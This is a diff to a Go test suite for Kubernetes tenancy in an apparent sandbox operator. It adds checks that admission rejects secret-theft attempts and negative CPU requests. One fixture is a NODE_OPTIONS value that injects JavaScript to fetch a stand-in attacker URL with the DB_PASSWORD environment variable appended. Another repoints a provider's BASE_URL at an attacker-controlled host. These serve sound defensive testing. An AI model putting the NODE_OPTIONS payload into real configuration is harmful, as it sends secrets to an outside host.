@@ -18,6 +18,7 @@ import (
 	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	"k8s.io/apimachinery/pkg/api/meta"
+	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/rest"
@@ -88,6 +89,8 @@ func TestTenancy(t *testing.T) {
 	t.Run("GatewayAccess", tn.gatewayAccess)
 	t.Run("TenantAdminVsEditor", tn.tenantAdminVsEditor)
 	t.Run("SecretReference", tn.secretReference)
+	t.Run("ProviderSecretReference", tn.providerSecretReference)
+	t.Run("NegativeQuantity", tn.negativeQuantity)
 	t.Run("WorkspaceAndProviderConflict", tn.workspaceAndProviderConflict)
 	t.Run("RecreatedNamespace", tn.recreatedNamespace)
 	t.Run("FinalizerProtected", tn.finalizerProtected)
@@ -483,8 +486,72 @@ func (tn *tenancySuite) secretReference(t *testing.T) {
 	}
 	expectForbidden(g, edit(func(sb *openshellv1alpha1.OpenShellSandbox) { sb.Spec.Image = "registry.example.com/dave/exfiltrate:1" }),
 		"SecretAccessDenied", "may not get Secret db")
+	// N3: neither may he add code beside the value any other way: an env
+	// var the runtime executes, an annotation, a policy of his choosing.
+	nodeOptions := "--import=data:text/javascript,fetch('https://dave.example/'+process.env.DB_PASSWORD)"
+	for what, mutate := range map[string]func(*openshellv1alpha1.OpenShellSandbox){
+		"env": func(sb *openshellv1alpha1.OpenShellSandbox) {
+			sb.Spec.Env = append(sb.Spec.Env, openshellv1alpha1.SandboxEnvVar{Name: "NODE_OPTIONS", Value: &nodeOptions})
+		},
+		"podAnnotations": func(sb *openshellv1alpha1.OpenShellSandbox) {
+			sb.Spec.PodAnnotations = map[string]openshellv1alpha1.PodAnnotationValue{"example.com/x": "y"}
+		},
+		"policyRef": func(sb *openshellv1alpha1.OpenShellSandbox) {
+			sb.Spec.PolicyRef = &openshellv1alpha1.LocalObjectReference{Name: "permissive"}
+		},
+	} {
+		t.Run("edits "+what, func(t *testing.T) {
+			expectForbidden(NewWithT(t), edit(mutate), "SecretAccessDenied", "may not get Secret db")
+		})
+	}
 	g.Expect(edit(func(sb *openshellv1alpha1.OpenShellSandbox) { sb.Labels = map[string]string{"owner": "dave"} })).To(Succeed(),
 		"changes that hand no value to a new program are not blocked")
+}
+
+// providerSecretReference (N4): a Tenant Admin bound explicitly
+// (openshell-tenant-admin holds manage, not Secret reads) cannot make an
+// OpenShellProvider carry a Secret they may not read — its keys would become
+// env of the agents that attach it — nor re-point one that a Secret reader
+// created.
+func (tn *tenancySuite) providerSecretReference(t *testing.T) {
+	g := NewWithT(t)
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	ns := tenancyNamespace(ctx, t, "team-n4", map[string]string{"team": "a"})
+	bind(ctx, t, ns, "alice", "admin")
+	bind(ctx, t, ns, "erin", "openshell-tenant-admin")
+	g.Expect(cluster.Client.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: ns},
+		StringData: map[string]string{"password": "hunter2"}})).To(Succeed())
+	g.Expect(canI(ctx, g, "erin", ns, "get", "secrets")).To(BeFalse(), "the persona of this attack")
+	prov := func(name string) *openshellv1alpha1.OpenShellProvider {
+		return &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
+			Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "generic",
+				CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "db", Keys: []string{"password"}}}}
+	}
+	expectForbidden(g, as(t, "erin").Create(ctx, prov("stolen")), "SecretAccessDenied", "may not get Secret db")
+	g.Expect(as(t, "alice").Create(ctx, prov("legit"))).To(Succeed(), "a namespace admin may read the Secret")
+	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
+		cur := &openshellv1alpha1.OpenShellProvider{}
+		if err := as(t, "erin").Get(ctx, client.ObjectKey{Namespace: ns, Name: "legit"}, cur); err != nil {
+			return err
+		}
+		cur.Spec.Config = map[string]string{"BASE_URL": "https://erin.example"}
+		return as(t, "erin").Update(ctx, cur)
+	})
+	expectForbidden(g, err, "SecretAccessDenied", "may not get Secret db")
+}
+
+// negativeQuantity (N8): an editor cannot lower the namespace's budget with
+// a negative request.
+func (tn *tenancySuite) negativeQuantity(t *testing.T) {
+	g := NewWithT(t)
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	ns := tenancyNamespace(ctx, t, "team-n8", map[string]string{"team": "a"})
+	bind(ctx, t, ns, "erin", "edit")
+	sb := tn.sandbox(ns, "sponge")
+	sb.Spec.Resources = &corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("-100")}}
+	expectForbidden(g, as(t, "erin").Create(ctx, sb), "InvalidResources", "cannot be negative")
 }
 
 // workspaceAndProviderConflict injects, through the gateway itself, a
